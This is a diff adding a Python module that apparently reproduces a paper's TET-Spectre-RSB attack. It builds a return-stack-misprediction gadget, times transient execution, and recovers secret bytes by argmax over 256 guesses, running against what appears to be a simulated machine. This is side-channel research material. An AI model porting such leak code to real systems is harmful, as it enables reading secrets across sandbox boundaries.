@@ -1,0 +1,97 @@
+"""TET-Spectre-V5-RSB (§4.3.3, Listing 1): RSB misprediction + TET.
+
+``call`` pushes the return site onto the return stack buffer; the
+trampoline overwrites the architectural return address and ``clflush``es
+it, so ``ret`` both mispredicts (transiently executing the return-site
+gadget) and resolves late (the corrected target must come from DRAM).
+Inside that window, a Jcc keyed on the secret byte either follows its
+trained direction (skipping a nop sled) or mispredicts into the sled,
+changing how much wrong-path work the final redirect must drain.
+Following Listing 1, the byte is recovered as the **argmax** of the
+spend-time scan.
+
+The secret is attacker-address-space data that the attack never reads
+architecturally (a sandboxed-JIT scenario): only the transient return
+path dereferences it.  No fault, no suppression -- which is also why
+TET-RSB is the fastest TET attack (§4.1's 21.5 KB/s on the i9-13900K).
+"""
+
+from __future__ import annotations
+
+from typing import Optional, Sequence
+
+from repro.whisper.analysis import ArgExtremeDecoder, ByteScanResult
+from repro.whisper.attacks.meltdown import LeakResult
+from repro.whisper.gadgets import GadgetBuilder
+
+
+class TetSpectreRsb:
+    """The TET-RSB attack bound to one machine."""
+
+    def __init__(
+        self,
+        machine,
+        batches: int = 1,
+        sled: int = 24,
+        values: Sequence[int] = range(256),
+    ) -> None:
+        self.machine = machine
+        self.batches = batches
+        self.values = list(values)
+        self.builder = GadgetBuilder(machine)
+        self.program = self.builder.spectre_rsb(sled=sled)
+        self.decoder = ArgExtremeDecoder("max")
+        stack_base = machine.alloc_data(pages=2)
+        #: Stack top, mid-page so the call's push stays on mapped memory.
+        self.stack_top = stack_base + 0x1800
+        self.secret_va = machine.alloc_data()
+        self._secret = b""
+        self._warmed = False
+
+    def install_secret(self, secret: bytes) -> None:
+        """Place the transient-only secret in the sandboxed region."""
+        self._secret = bytes(secret)
+        self.machine.write_data(self.secret_va, self._secret)
+
+    def scan_byte(self, index: int) -> ByteScanResult:
+        """Leak secret byte *index* through the RSB window."""
+        if not self._warmed:
+            # Cold code/BTB/DSB state distorts the first few windows.
+            for _ in range(4):
+                self.machine.run(
+                    self.program,
+                    regs={"rsp": self.stack_top, "r12": self.secret_va, "r9": 256},
+                )
+            self._warmed = True
+        totes = {test: [] for test in self.values}
+        for _ in range(self.batches):
+            for test in self.values:
+                result = self.machine.run(
+                    self.program,
+                    regs={
+                        "rsp": self.stack_top,
+                        "r12": self.secret_va + index,
+                        "r9": test,
+                    },
+                )
+                totes[test].append(result.regs.read("r15") - result.regs.read("r14"))
+        return self.decoder.decode(totes)
+
+    def leak(self, length: Optional[int] = None) -> LeakResult:
+        """Leak *length* bytes of the installed secret."""
+        if not self._secret:
+            raise RuntimeError("no secret installed; call install_secret")
+        if length is None:
+            length = len(self._secret)
+        start_cycle = self.machine.core.global_cycle
+        scans = [self.scan_byte(index) for index in range(length)]
+        cycles = self.machine.core.global_cycle - start_cycle
+        seconds = self.machine.seconds(cycles)
+        return LeakResult(
+            data=bytes(scan.value for scan in scans),
+            expected=self._secret[:length],
+            cycles=cycles,
+            seconds=seconds,
+            bytes_per_second=length / seconds if seconds else float("inf"),
+            scans=scans,
+        )
